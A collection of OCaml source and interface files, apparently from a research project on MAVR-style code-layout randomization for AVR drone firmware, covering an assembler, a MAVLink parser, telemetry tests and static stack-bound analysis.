      let t = create () in
      let rec go = function
        | [] -> Ok t
        | (name, v) :: rest ->
            if Hashtbl.mem t.tbl name then
              Error (Printf.sprintf "Metrics.of_json: duplicate metric %S" name)
            else (
              match value_of_json v with
              | Some (Counter_value c) ->
                  Hashtbl.add t.tbl name (Counter { c });
                  go rest
              | Some (Gauge_value g) ->
                  Hashtbl.add t.tbl name (Gauge { g });
                  go rest
              | Some (Histogram_value s) ->
                  let h =
                    if s.count = 0 then { n = 0; sum = 0; hmin = max_int; hmax = min_int }
                    else { n = s.count; sum = s.sum; hmin = s.min; hmax = s.max }
                  in
                  Hashtbl.add t.tbl name (Histogram h);
                  go rest
              | None -> Error (Printf.sprintf "Metrics.of_json: malformed metric %S" name))
      in
      go kvs
  | _ -> Error "Metrics.of_json: not an object"

let of_jsonl s =
  let lines = String.split_on_char '\n' s |> List.filter (fun l -> String.trim l <> "") in
  let rec go acc = function
    | [] -> Ok (List.rev acc)
    | line :: rest -> (
        match Json.of_string line with
        | Error e -> Error e
        | Ok j -> (
            match (Option.bind (Json.member "name" j) Json.to_str, value_of_json j) with
            | Some name, Some v -> go ((name, v) :: acc) rest
            | _ -> Error (Printf.sprintf "malformed metric line %S" line)))
  in
  go [] lines

let pp_value fmt = function
  | Counter_value v -> Format.fprintf fmt "%d" v
  | Gauge_value v -> Format.fprintf fmt "%d" v
  | Histogram_value s ->
      Format.fprintf fmt "n=%d sum=%d min=%d max=%d mean=%.1f" s.count s.sum s.min s.max s.mean

let pp_summary fmt t =
  let entries = snapshot t in
  let width = List.fold_left (fun w (name, _) -> max w (String.length name)) 0 entries in
  List.iter
    (fun (name, v) -> Format.fprintf fmt "  %-*s  %a@." width name pp_value v)
    entries
