open Mavr_avr

type part = Lo8 | Hi8 | Lo8_word | Hi8_word

type item =
  | Label of string
  | Insn of Isa.t
  | Call_sym of string
  | Jmp_sym of string
  | Call_sym_off of string * int
  | Jmp_sym_off of string * int
  | Rcall_sym of string
  | Rjmp_sym of string
  | Br of [ `Sbit of int | `Cbit of int ] * string
  | Ldi_sym of Isa.reg * part * string
  | Word_sym of string
  | Raw_words of int list
  | Raw_bytes of string

type func = { name : string; items : item list }

type program = {
  vectors : item list;
  funcs : func list;
  data : item list;
  defines : (string * int) list;
}

type symbol = { name : string; addr : int; size : int }

type output = {
  code : string;
  symbols : symbol list;
  funptr_locs : int list;
  labels : (string * int) list;
  text_start : int;
  text_end : int;
  data_load : int;
}

exception Error of string

let error fmt = Printf.ksprintf (fun m -> raise (Error m)) fmt

(* A flattened item with its layout state.  [short] applies to relaxable
   call/jmp items: when true the item assembles to rcall/rjmp (2 bytes). *)
type slot = { it : item; mutable short : bool }

let slot_size s =
  match s.it with
  | Label _ -> 0
  | Insn i -> 2 * Isa.size_words i
  | Call_sym _ | Jmp_sym _ -> if s.short then 2 else 4
  | Call_sym_off _ | Jmp_sym_off _ -> 4
  | Rcall_sym _ | Rjmp_sym _ -> 2
  | Br _ -> 2
  | Ldi_sym _ -> 2
  | Word_sym _ -> 2
  | Raw_words ws -> 2 * List.length ws
  | Raw_bytes b -> String.length b

(* Function boundaries within the flattened slot array. *)
type span = { fname : string; first : int; last : int (* slot indices, inclusive *) }

let flatten program =
  let slots = ref [] in
  let spans = ref [] in
  let n = ref 0 in
  let push it =
    slots := { it; short = false } :: !slots;
    incr n
  in
  List.iter push program.vectors;
  let text_first = !n in
  List.iter
    (fun (f : func) ->
      let first = !n in
      push (Label f.name);
      List.iter push f.items;
      spans := { fname = f.name; first; last = !n - 1 } :: !spans)
    program.funcs;
  let text_last = !n - 1 in
  let data_first = !n in
  List.iter push program.data;
  ( Array.of_list (List.rev !slots),
    List.rev !spans,
    text_first,
    text_last,
    data_first )

let compute_addrs slots =
  let addrs = Array.make (Array.length slots + 1) 0 in
  for i = 0 to Array.length slots - 1 do
    addrs.(i + 1) <- addrs.(i) + slot_size slots.(i)
  done;
  addrs

let build_labels program slots addrs =
  let tbl = Hashtbl.create 256 in
  let define name v =
    if Hashtbl.mem tbl name then error "duplicate label %S" name;
    Hashtbl.add tbl name v
  in
  List.iter (fun (name, v) -> define name v) program.defines;
  Array.iteri
    (fun i s -> match s.it with Label name -> define name addrs.(i) | _ -> ())
    slots;
  tbl

let lookup tbl name = match Hashtbl.find_opt tbl name with
  | Some v -> v
  | None -> error "undefined label %S" name

(* Relaxation: shrink long call/jmp whose target fits the ±2048-word reach
   of rcall/rjmp.  Shrinking only moves code closer together, so iterating
   to a fixed point terminates. *)
let relax_pass program slots ~text_first =
  let changed = ref true in
  let rounds = ref 0 in
  while !changed && !rounds < 64 do
    changed := false;
    incr rounds;
    let addrs = compute_addrs slots in
    let tbl = build_labels program slots addrs in
    Array.iteri
      (fun i s ->
        match s.it with
        (* The vector region is exempt: interrupt hardware indexes the
           table in fixed 4-byte slots, so its jumps must never shrink
           (real Binutils likewise keeps .vectors out of relaxation). *)
        | (Call_sym name | Jmp_sym name) when (not s.short) && i >= text_first ->
            let target = lookup tbl name in
            let next = addrs.(i) + 2 (* size if short *) in
            let off = (target - next) / 2 in
            if off >= -2048 && off <= 2047 then begin
              s.short <- true;
              changed := true
            end
        | _ -> ())
      slots
  done

let apply_part part v =
  match part with
  | Lo8 -> v land 0xFF
  | Hi8 -> (v lsr 8) land 0xFF
  | Lo8_word -> (v / 2) land 0xFF
  | Hi8_word -> ((v / 2) lsr 8) land 0xFF

let emit program slots addrs tbl =
  let buf = Buffer.create 4096 in
  let funptrs = ref [] in
  let add_words ws =
    List.iter
      (fun w ->
        Buffer.add_char buf (Char.chr (w land 0xFF));
        Buffer.add_char buf (Char.chr ((w lsr 8) land 0xFF)))
      ws
  in
  let encode_at i insn =
    if addrs.(i) land 1 <> 0 then
      error "instruction at odd address 0x%x (unaligned Raw_bytes before it?)" addrs.(i);
    add_words (Opcode.encode insn)
  in
  let rel_words i target =
    (* Offset from the end of this (2-byte) instruction, in words. *)
    (target - (addrs.(i) + 2)) / 2
  in
  ignore program;
  Array.iteri
    (fun i s ->
      match s.it with
      | Label _ -> ()
      | Insn insn -> encode_at i insn
      | Call_sym name ->
          let target = lookup tbl name in
          if s.short then encode_at i (Isa.Rcall (rel_words i target))
          else encode_at i (Isa.Call (target / 2))
      | Jmp_sym name ->
          let target = lookup tbl name in
          if s.short then encode_at i (Isa.Rjmp (rel_words i target))
          else encode_at i (Isa.Jmp (target / 2))
      | Call_sym_off (name, woff) -> encode_at i (Isa.Call ((lookup tbl name / 2) + woff))
      | Jmp_sym_off (name, woff) -> encode_at i (Isa.Jmp ((lookup tbl name / 2) + woff))
      | Rcall_sym name ->
          let off = rel_words i (lookup tbl name) in
          if off < -2048 || off > 2047 then error "rcall to %S out of range" name;
          encode_at i (Isa.Rcall off)
      | Rjmp_sym name ->
          let off = rel_words i (lookup tbl name) in
          if off < -2048 || off > 2047 then error "rjmp to %S out of range" name;
          encode_at i (Isa.Rjmp off)
      | Br (cond, name) ->
          let off = rel_words i (lookup tbl name) in
          if off < -64 || off > 63 then error "branch to %S out of range (%d words)" name off;
          let insn =
            match cond with `Sbit b -> Isa.Brbs (b, off) | `Cbit b -> Isa.Brbc (b, off)
          in
          encode_at i insn
      | Ldi_sym (r, part, name) -> encode_at i (Isa.Ldi (r, apply_part part (lookup tbl name)))
      | Word_sym name ->
          let v = lookup tbl name / 2 in
          if v > 0xFFFF then
            error "Word_sym %S: word address 0x%x exceeds a 16-bit pointer slot" name v;
          funptrs := addrs.(i) :: !funptrs;
          add_words [ v ]
      | Raw_words ws -> add_words (List.map (fun w -> w land 0xFFFF) ws)
      | Raw_bytes b -> Buffer.add_string buf b)
    slots;
  (Buffer.contents buf, List.rev !funptrs)

let assemble ~relax program =
  let slots, spans, text_first, text_last, data_first = flatten program in
  if relax then relax_pass program slots ~text_first;
  (* Final layout with sizes fixed. *)
  let addrs = compute_addrs slots in
  let tbl0 = build_labels program slots addrs in
  let text_start = addrs.(text_first) in
  let text_end = if text_last >= text_first then addrs.(text_last + 1) else text_start in
  let data_load = addrs.(data_first) in
  let auto =
    [
      ("__text_start", text_start);
      ("__text_end", text_end);
      ("__data_load_start", data_load);
      ("__data_load_end", addrs.(Array.length slots));
    ]
  in
  List.iter
    (fun (name, v) ->
      if Hashtbl.mem tbl0 name then error "reserved label %S redefined" name;
      Hashtbl.add tbl0 name v)
    auto;
  let code, funptr_locs = emit program slots addrs tbl0 in
  let symbols =
    List.map
      (fun sp ->
        { name = sp.fname; addr = addrs.(sp.first); size = addrs.(sp.last + 1) - addrs.(sp.first) })
      spans
  in
  let labels = Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl0 [] in
  {
    code;
    symbols;
    funptr_locs;
    labels = List.sort compare labels;
    text_start;
    text_end;
    data_load;
  }

let find_symbol out name =
  match List.find_opt (fun s -> s.name = name) out.symbols with
  | Some s -> s
  | None -> raise Not_found

let label_value out name = List.assoc name out.labels
