(* The telemetry substrate: JSON codec round-trips, registry
   snapshot/reset semantics, JSONL export/import, and the flight-recorder
   ring (bounded overwrite, oldest-first readout). *)

module Json = Mavr_telemetry.Json
module Metrics = Mavr_telemetry.Metrics
module Recorder = Mavr_telemetry.Recorder

(* ---- JSON codec ---- *)

let test_json_roundtrip () =
  let doc =
    Json.Obj
      [
        ("s", Json.String "he said \"hi\"\n\t\\done");
        ("i", Json.Int (-42));
        ("f", Json.Float 3.25);
        ("b", Json.Bool true);
        ("n", Json.Null);
        ("l", Json.List [ Json.Int 1; Json.String "x"; Json.Obj [ ("k", Json.Bool false) ] ]);
        ("empty_obj", Json.Obj []);
        ("empty_list", Json.List []);
      ]
  in
  List.iter
    (fun rendered ->
      match Json.of_string rendered with
      | Ok parsed -> Alcotest.(check bool) "round-trips" true (parsed = doc)
      | Error e -> Alcotest.failf "parse failed: %s" e)
    [ Json.to_string doc; Json.to_string ~indent:2 doc ]

let test_json_nonfinite_floats () =
  (* Non-finite floats have no JSON encoding; they must render as null
     rather than emit an unparseable token. *)
  let s = Json.to_string (Json.List [ Json.Float nan; Json.Float infinity ]) in
  match Json.of_string s with
  | Ok (Json.List [ Json.Null; Json.Null ]) -> ()
  | Ok other -> Alcotest.failf "unexpected %s" (Json.to_string other)
  | Error e -> Alcotest.failf "parse failed: %s" e

let test_json_rejects_garbage () =
  List.iter
    (fun s ->
      match Json.of_string s with
      | Ok _ -> Alcotest.failf "accepted %S" s
      | Error _ -> ())
    [ ""; "{"; "[1,]"; "{\"a\":}"; "truex"; "\"unterminated"; "{\"a\":1}trailing" ]

let test_json_accessors () =
  let doc = Json.Obj [ ("a", Json.Obj [ ("b", Json.Int 7) ]); ("f", Json.Float 1.5) ] in
  Alcotest.(check (option int)) "path" (Some 7)
    (Option.bind (Json.path [ "a"; "b" ] doc) Json.to_int);
  Alcotest.(check bool) "missing path" true (Json.path [ "a"; "z" ] doc = None);
  Alcotest.(check (option (float 1e-9))) "float" (Some 1.5)
    (Option.bind (Json.member "f" doc) Json.to_float)

(* ---- metrics registry ---- *)

let test_registry_snapshot_and_reset () =
  let r = Metrics.create () in
  let c = Metrics.counter r "c" in
  Metrics.incr c;
  Metrics.add c 4;
  let g = Metrics.gauge r "g" in
  Metrics.set g 7;
  Metrics.set_max g 3;
  (* no-op: 3 < 7 *)
  Metrics.set_max g 11;
  let h = Metrics.histogram r "h" in
  List.iter (Metrics.observe h) [ 2; 8; 5 ];
  let live = ref 100 in
  Metrics.sampled r "s" (fun () -> !live);
  live := 123;
  let snap = Metrics.snapshot r in
  Alcotest.(check (list string)) "sorted names" [ "c"; "g"; "h"; "s" ] (List.map fst snap);
  (match List.assoc "c" snap with
  | Metrics.Counter_value 5 -> ()
  | v -> Alcotest.failf "counter: %a" Metrics.pp_value v);
  (match List.assoc "g" snap with
  | Metrics.Gauge_value 11 -> ()
  | v -> Alcotest.failf "gauge: %a" Metrics.pp_value v);
  (match List.assoc "h" snap with
  | Metrics.Histogram_value { count = 3; sum = 15; min = 2; max = 8; mean } ->
      Alcotest.(check (float 1e-9)) "mean" 5.0 mean
  | v -> Alcotest.failf "histogram: %a" Metrics.pp_value v);
  (match List.assoc "s" snap with
  | Metrics.Gauge_value 123 -> ()
  | v -> Alcotest.failf "sampled: %a" Metrics.pp_value v);
  Metrics.reset r;
  let snap = Metrics.snapshot r in
  Alcotest.(check bool) "counter zeroed" true (List.assoc "c" snap = Metrics.Counter_value 0);
  Alcotest.(check bool) "gauge zeroed" true (List.assoc "g" snap = Metrics.Gauge_value 0);
  (match List.assoc "h" snap with
  | Metrics.Histogram_value { count = 0; _ } -> ()
  | v -> Alcotest.failf "histogram not reset: %a" Metrics.pp_value v);
  (* Sampled gauges reflect state owned elsewhere; reset must not lose them. *)
  Alcotest.(check bool) "sampled untouched" true (List.assoc "s" snap = Metrics.Gauge_value 123)

let test_registry_idempotent_and_kind_clash () =
  let r = Metrics.create () in
  let c1 = Metrics.counter r "x" in
  let c2 = Metrics.counter r "x" in
  Metrics.incr c1;
  Metrics.incr c2;
  Alcotest.(check int) "same cell" 2 (Metrics.value c1);
  (match Metrics.gauge r "x" with
  | _ -> Alcotest.fail "kind clash accepted"
  | exception Invalid_argument _ -> ());
  match Metrics.histogram r "x" with
  | _ -> Alcotest.fail "kind clash accepted"
  | exception Invalid_argument _ -> ()

let test_jsonl_roundtrip () =
  let r = Metrics.create () in
  Metrics.add (Metrics.counter r "frames") 17;
  Metrics.set (Metrics.gauge r "depth") (-3);
  List.iter (Metrics.observe (Metrics.histogram r "lat")) [ 1; 2; 3; 4 ];
  Metrics.sampled r "live" (fun () -> 99);
  match Metrics.of_jsonl (Metrics.to_jsonl r) with
  | Ok parsed -> Alcotest.(check bool) "jsonl round-trip" true (parsed = Metrics.snapshot r)
  | Error e -> Alcotest.failf "of_jsonl: %s" e

let test_jsonl_rejects_corrupt_line () =
  match Metrics.of_jsonl "{\"name\":\"a\",\"type\":\"counter\",\"value\":1}\nnot json\n" with
  | Ok _ -> Alcotest.fail "accepted corrupt line"
  | Error _ -> ()

let test_jsonl_seq_and_cycle_stamps () =
  (* Every exported line carries a monotonic per-registry [seq] (never
     reset across exports — consumers detect dropped lines) and the
     emission cycle stamp; neither breaks the round-trip. *)
  let r = Metrics.create () in
  Metrics.incr (Metrics.counter r "a");
  Metrics.incr (Metrics.counter r "b");
  let seqs_of s =
    String.split_on_char '\n' s
    |> List.filter (fun l -> l <> "")
    |> List.map (fun l ->
           match Json.of_string l with
           | Ok j ->
               ( Option.bind (Json.member "seq" j) Json.to_int,
                 Option.bind (Json.member "cycle" j) Json.to_int )
           | Error e -> Alcotest.failf "line does not parse: %s" e)
  in
  Alcotest.(check (list (pair (option int) (option int))))
    "first export stamps" [ (Some 1, Some 500); (Some 2, Some 500) ]
    (seqs_of (Metrics.to_jsonl ~cycle:500 r));
  Alcotest.(check (list (pair (option int) (option int))))
    "seq continues across exports" [ (Some 3, Some 900); (Some 4, Some 900) ]
    (seqs_of (Metrics.to_jsonl ~cycle:900 r));
  match Metrics.of_jsonl (Metrics.to_jsonl ~cycle:42 r) with
  | Ok parsed -> Alcotest.(check bool) "still round-trips" true (parsed = Metrics.snapshot r)
  | Error e -> Alcotest.failf "of_jsonl: %s" e

(* ---- flight-recorder ring ---- *)

let test_recorder_wraparound () =
  let r = Recorder.create ~capacity:4 in
  for i = 1 to 10 do
    Recorder.record r ~cycle:(i * 100) ~value:i "e"
  done;
  Alcotest.(check int) "bounded" 4 (Recorder.length r);
  Alcotest.(check int) "total counts overwrites" 10 (Recorder.total_recorded r);
  Alcotest.(check (list int)) "oldest-first window" [ 7; 8; 9; 10 ]
    (List.map (fun (e : Recorder.event) -> e.value) (Recorder.events r));
  Alcotest.(check (list int)) "cycles preserved" [ 700; 800; 900; 1000 ]
    (List.map (fun (e : Recorder.event) -> e.cycle) (Recorder.events r))

let test_recorder_spans_and_clear () =
  let r = Recorder.create ~capacity:8 in
  Recorder.span_begin r ~cycle:10 ~value:1 "phase";
  Recorder.record r ~cycle:15 "inner";
  Recorder.span_end r ~cycle:20 ~value:2 "phase";
  (match Recorder.events r with
  | [ b; i; e ] ->
      Alcotest.(check bool) "begin kind" true (b.Recorder.kind = Recorder.Span_begin);
      Alcotest.(check bool) "point kind" true (i.Recorder.kind = Recorder.Point);
      Alcotest.(check bool) "end kind" true (e.Recorder.kind = Recorder.Span_end)
  | l -> Alcotest.failf "expected 3 events, got %d" (List.length l));
  Recorder.clear r;
  Alcotest.(check int) "cleared" 0 (Recorder.length r);
  Alcotest.(check int) "total restarts with the window" 0 (Recorder.total_recorded r)

let test_recorder_rejects_bad_capacity () =
  match Recorder.create ~capacity:0 with
  | _ -> Alcotest.fail "accepted capacity 0"
  | exception Invalid_argument _ -> ()

let test_recorder_json () =
  let r = Recorder.create ~capacity:2 in
  Recorder.record r ~cycle:5 ~value:9 "x";
  let j = Recorder.to_json r in
  Alcotest.(check (option int)) "total" (Some 1)
    (Option.bind (Json.path [ "total_recorded" ] j) Json.to_int);
  match Json.path [ "events" ] j with
  | Some (Json.List [ e ]) ->
      Alcotest.(check (option int)) "cycle" (Some 5)
        (Option.bind (Json.member "cycle" e) Json.to_int)
  | _ -> Alcotest.fail "events list missing"

let () =
  Alcotest.run "telemetry"
    [
      ( "json",
        [
          Alcotest.test_case "round-trip" `Quick test_json_roundtrip;
          Alcotest.test_case "non-finite floats" `Quick test_json_nonfinite_floats;
          Alcotest.test_case "rejects garbage" `Quick test_json_rejects_garbage;
          Alcotest.test_case "accessors" `Quick test_json_accessors;
        ] );
      ( "metrics",
        [
          Alcotest.test_case "snapshot and reset" `Quick test_registry_snapshot_and_reset;
          Alcotest.test_case "idempotent registration" `Quick test_registry_idempotent_and_kind_clash;
          Alcotest.test_case "jsonl round-trip" `Quick test_jsonl_roundtrip;
          Alcotest.test_case "jsonl corrupt line" `Quick test_jsonl_rejects_corrupt_line;
          Alcotest.test_case "jsonl seq and cycle stamps" `Quick test_jsonl_seq_and_cycle_stamps;
        ] );
      ( "recorder",
        [
          Alcotest.test_case "ring wraparound" `Quick test_recorder_wraparound;
          Alcotest.test_case "spans and clear" `Quick test_recorder_spans_and_clear;
          Alcotest.test_case "bad capacity" `Quick test_recorder_rejects_bad_capacity;
          Alcotest.test_case "json dump" `Quick test_recorder_json;
        ] );
    ]
