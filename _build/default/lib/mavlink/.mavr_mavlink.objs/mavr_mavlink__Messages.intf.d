lib/mavlink/messages.mli:
