(** Randomization frequency vs. flash endurance (§V-C, §VI-A).

    Every randomization reprograms the application processor's internal
    flash, which is rated for 10,000 program/erase cycles; randomizing at
    every restart therefore "significantly reduces the lifetime of the
    processor".  MAVR's schedule randomizes every [k] boots — plus,
    always, after a detected attack.  This module quantifies that
    trade-off: expected reprogramming per boot, boots until wear-out, and
    the staleness window an attacker gets to study one layout. *)

type policy = {
  randomize_every_boots : int;  (** k: randomize on boots 1, 1+k, 1+2k, … *)
}

(** [reflashes_per_boot policy ~attack_rate_per_boot] — expected flash
    programmings per boot: the scheduled share [1/k] plus one per detected
    attack. *)
val reflashes_per_boot : policy -> attack_rate_per_boot:float -> float

(** [boots_until_wearout policy ~endurance ~attack_rate_per_boot] —
    expected number of boots before the flash endurance is exhausted. *)
val boots_until_wearout : policy -> endurance:int -> attack_rate_per_boot:float -> float

(** [layout_exposure_boots policy] — how many boots a single layout stays
    live when no attacks occur: the window an attacker has to brute-force
    one permutation before it changes anyway. *)
val layout_exposure_boots : policy -> int

(** [years_until_wearout policy ~endurance ~attack_rate_per_boot
    ~boots_per_day] — the same wear-out horizon on a calendar. *)
val years_until_wearout :
  policy -> endurance:int -> attack_rate_per_boot:float -> boots_per_day:float -> float
