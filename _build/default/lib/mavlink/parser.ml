type stats = { frames_ok : int; crc_errors : int; bytes_dropped : int }

type t = {
  crc_extra_of : int -> int;
  buf : Buffer.t;
  mutable frames_ok : int;
  mutable crc_errors : int;
  mutable bytes_dropped : int;
}

let create ?(crc_extra_of = Messages.crc_extra_of) () =
  { crc_extra_of; buf = Buffer.create 64; frames_ok = 0; crc_errors = 0; bytes_dropped = 0 }

let feed t bytes =
  Buffer.add_string t.buf bytes;
  let frames = ref [] in
  let progress = ref true in
  while !progress do
    progress := false;
    let data = Buffer.contents t.buf in
    let n = String.length data in
    if n > 0 then begin
      if Char.code data.[0] <> Frame.magic then begin
        (* Resync: drop bytes up to the next magic. *)
        let next =
          match String.index_opt data (Char.chr Frame.magic) with Some i -> i | None -> n
        in
        t.bytes_dropped <- t.bytes_dropped + next;
        Buffer.clear t.buf;
        Buffer.add_string t.buf (String.sub data next (n - next));
        progress := next > 0 && n - next > 0
      end
      else
        match Frame.decode ~crc_extra_of:t.crc_extra_of data with
        | Ok (frame, consumed) ->
            t.frames_ok <- t.frames_ok + 1;
            frames := frame :: !frames;
            Buffer.clear t.buf;
            Buffer.add_string t.buf (String.sub data consumed (n - consumed));
            progress := true
        | Error Frame.Truncated -> ()
        | Error (Frame.Bad_crc _) ->
            (* Skip the bad frame's magic byte and resync. *)
            t.crc_errors <- t.crc_errors + 1;
            t.bytes_dropped <- t.bytes_dropped + 1;
            Buffer.clear t.buf;
            Buffer.add_string t.buf (String.sub data 1 (n - 1));
            progress := true
        | Error Frame.Bad_magic ->
            t.bytes_dropped <- t.bytes_dropped + 1;
            Buffer.clear t.buf;
            Buffer.add_string t.buf (String.sub data 1 (n - 1));
            progress := true
    end
  done;
  List.rev !frames

let stats t = { frames_ok = t.frames_ok; crc_errors = t.crc_errors; bytes_dropped = t.bytes_dropped }

let pending t = Buffer.length t.buf
