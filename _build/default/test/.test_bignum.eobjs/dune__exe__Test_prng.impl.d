test/test_prng.ml: Alcotest Array Gen Hashtbl Helpers Mavr_prng QCheck
