lib/mavr/shuffle.mli: Mavr_obj Mavr_prng
