(** Static worst-case stack bounds (a {!Dataflow} client).

    Per analysis entry (function starts, vector slots, funptr targets,
    and every cross-function control-edge target — the shared-epilogue
    mid-entries) a forward fixpoint tracks the {e depth}: bytes pushed
    below the SP value held at the entry.  [push]/[pop] move it by one,
    [call]/[rcall]/[icall] return addresses cost [pc_bytes] (3 on the
    ATmega2560) and are charged at the call site, and the avr-gcc frame
    idiom — [in r28,SPL; in r29,SPH; subi/sbci; out SPH; out SPL] — is
    recognized by tracking SP-relative register values through the
    16-bit adjust, so frame allocation and the Fig. 4 teardown both
    commit an exact new depth instead of poisoning the analysis.

    Interprocedurally, entry totals combine along the call/tail-jump
    dependency graph in SCC order: [total(e) = max(local_max,
    depth@call + pc_bytes + total(callee), depth@tail + total(target))];
    any recursive component is [Unbounded].  The image bound adds one
    hardware interrupt frame plus the worst ISR total on top of the
    reset path (handlers never re-enable interrupts in this firmware;
    nesting would need a multiplier).

    The per-site source classification of every [out SPL/SPH]
    ({!sp_classes}) replaces {!Lint}'s old ±3/±8-instruction window
    heuristics: a write is clean iff the written register provably
    holds an SP-relative or constant value on every path. *)

type sp_class =
  | Sp_relative  (** written value derived from SP via the frame idiom *)
  | Const_init  (** written value is an [ldi]-style constant (startup) *)
  | Unknown_source  (** anything else — the stack-pivot primitive *)

type bound = Finite of int | Unbounded of string

val bound_max : bound -> bound -> bound
val bound_add : bound -> int -> bound

(** Depth lattice value: exact bytes below entry SP, or widened top. *)
type dval = D of int | DTop

type local = {
  l_entry : int;
  l_max : dval;  (** deepest in-state depth seen intra-procedurally *)
  l_calls : (int * dval * int list) list;  (** site, depth there, targets *)
  l_tails : (int * dval * int) list;  (** site, depth there, target *)
  l_iterations : int;
}

type report = {
  per_entry : (local * bound) list;  (** ascending entry address *)
  main_total : bound;  (** reset-vector path (vector 0) *)
  isr_extra : bound;  (** pc_bytes + worst ISR total (one nesting level) *)
  image_bound : bound;  (** main_total + isr_extra — compare against
                            [stack_top - Probes.min_sp] *)
  entries : int;
  iterations : int;  (** total worklist pops across all local solves *)
  sp_classes : (int, sp_class) Hashtbl.t;  (** per [out SPL/SPH] site *)
}

val analyze : ?dev:Mavr_avr.Device.t -> Cfg.t -> report

(** Just the SP-write classification table (runs the full analysis). *)
val sp_write_classes : Cfg.t -> (int, sp_class) Hashtbl.t

val bound_to_json : bound -> Mavr_telemetry.Json.t
val to_json : ?per_function:bool -> Mavr_obj.Image.t -> report -> Mavr_telemetry.Json.t
val pp_bound : Format.formatter -> bound -> unit
val pp : Format.formatter -> Mavr_obj.Image.t -> report -> unit
