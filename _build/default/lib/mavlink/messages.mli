(** MAVLink v1 message catalog and typed payload codecs.

    A practical subset of the common dialect: the telemetry the autopilot
    streams to the ground station (heartbeat, attitude, raw IMU, status
    text) and the uplink messages an attacker-controlled ground station
    abuses (parameter writes, arbitrary commands) — the attack vector of
    Fig. 3. *)

type def = {
  msgid : int;
  name : string;
  crc_extra : int;  (** the CRC_EXTRA seed byte for this message *)
  payload_len : int;  (** fixed v1 payload length *)
}

val heartbeat : def
val sys_status : def
val param_set : def
val gps_raw_int : def
val raw_imu : def
val attitude : def
val command_long : def
val statustext : def

(** All known definitions, ascending [msgid]. *)
val all : def list

val find : int -> def option
val crc_extra_of : int -> int  (** 0 for unknown message ids *)

(** {2 Typed payloads} *)

module Heartbeat : sig
  type t = { typ : int; autopilot : int; base_mode : int; custom_mode : int; system_status : int }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Attitude : sig
  type t = {
    time_boot_ms : int;
    roll : float;  (** radians *)
    pitch : float;
    yaw : float;
    rollspeed : float;
    pitchspeed : float;
    yawspeed : float;
  }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Raw_imu : sig
  type t = {
    time_usec : int;
    xacc : int; yacc : int; zacc : int;
    xgyro : int; ygyro : int; zgyro : int;
    xmag : int; ymag : int; zmag : int;
  }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Statustext : sig
  type t = { severity : int; text : string }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Command_long : sig
  type t = {
    target_system : int;
    target_component : int;
    command : int;
    confirmation : int;
    params : float array;  (** exactly 7 parameters *)
  }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Gps_raw_int : sig
  type t = {
    time_usec : int;
    fix_type : int;
    lat : int;  (** degrees * 1e7 *)
    lon : int;
    alt : int;  (** millimetres *)
    eph : int;
    epv : int;
    vel : int;  (** cm/s *)
    cog : int;  (** centidegrees *)
    satellites_visible : int;
  }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Sys_status : sig
  type t = {
    onboard_control_sensors_present : int;
    onboard_control_sensors_enabled : int;
    onboard_control_sensors_health : int;
    load : int;  (** 0..1000, in 0.1% — the paper's "96% CPU usage" *)
    voltage_battery : int;  (** mV *)
    current_battery : int;  (** 10 mA units, -1 unknown *)
    battery_remaining : int;  (** percent, -1 unknown *)
    drop_rate_comm : int;
    errors_comm : int;
    errors_count : int * int * int * int;
  }

  val encode : t -> string
  val decode : string -> (t, string) result
end

module Param_set : sig
  type t = { target_system : int; target_component : int; param_id : string; param_value : float; param_type : int }

  val encode : t -> string
  val decode : string -> (t, string) result
end
