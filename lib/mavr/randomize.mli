(** The complete MAVR randomization pipeline (§V-B).

    [randomize] = draw a permutation ({!Shuffle}) + rewrite control flow
    ({!Patch}).  The result is a firmware image with identical behaviour
    and a different code layout; an attacker holding the original binary
    no longer knows any gadget address. *)

(** [randomize ~seed image] produces the randomized image.
    @raise Patch.Unpatchable when the image was not built with the MAVR
    toolchain flags (cross-block relative transfers present). *)
val randomize : seed:int -> Mavr_obj.Image.t -> Mavr_obj.Image.t

(** [randomize_rng ~rng image] draws the permutation from an existing
    generator (the master processor's state across re-randomizations). *)
val randomize_rng : rng:Mavr_prng.Splitmix.t -> Mavr_obj.Image.t -> Mavr_obj.Image.t

(** [with_order image order] applies a specific permutation — used by the
    brute-force experiments where the attacker enumerates layouts. *)
val with_order : Mavr_obj.Image.t -> int array -> Mavr_obj.Image.t

(** Structural sanity of a randomization: same size, same text bounds,
    same multiset of (name, size) symbols, permuted addresses. *)
val verify_structure :
  original:Mavr_obj.Image.t -> randomized:Mavr_obj.Image.t -> (unit, string) result

(** [layout_distance a b] is the number of functions whose address differs
    between the two images (0 = same layout) — a quick diversity metric. *)
val layout_distance : Mavr_obj.Image.t -> Mavr_obj.Image.t -> int

(** Inject a translation validator (e.g. the semantic-equivalence proof
    in [Mavr_analysis.Equiv], which depends on this library and so
    cannot be called directly).  The default accepts everything. *)
val set_translation_validator :
  (original:Mavr_obj.Image.t -> randomized:Mavr_obj.Image.t -> (unit, string) result) -> unit

(** [randomize_checked ~seed image] randomizes and then proves the
    result: structural sanity ({!verify_structure}) plus the injected
    translation validator.  [Error] instead of raising on unpatchable
    images. *)
val randomize_checked :
  seed:int -> Mavr_obj.Image.t -> (Mavr_obj.Image.t, string) result
