let magic = 0xFE

type t = { seq : int; sysid : int; compid : int; msgid : int; payload : string }

let header_len = 6
let crc_len = 2

let check_byte name v = if v < 0 || v > 0xFF then invalid_arg ("Frame: " ^ name ^ " out of byte range")

let encode_with ~declared_len ?crc_extra t =
  check_byte "declared length" declared_len;
  check_byte "seq" t.seq;
  check_byte "sysid" t.sysid;
  check_byte "compid" t.compid;
  check_byte "msgid" t.msgid;
  if String.length t.payload > 255 then invalid_arg "Frame: payload exceeds 255 bytes";
  let extra = match crc_extra with Some e -> e | None -> Messages.crc_extra_of t.msgid in
  let buf = Buffer.create (header_len + String.length t.payload + crc_len) in
  Buffer.add_char buf (Char.chr magic);
  List.iter
    (fun v -> Buffer.add_char buf (Char.chr v))
    [ declared_len; t.seq; t.sysid; t.compid; t.msgid ];
  Buffer.add_string buf t.payload;
  let body = Buffer.contents buf in
  let crc =
    Crc.accumulate
      (Crc.accumulate_string Crc.init (String.sub body 1 (String.length body - 1)))
      extra
  in
  let v = Crc.value crc in
  Buffer.add_char buf (Char.chr (v land 0xFF));
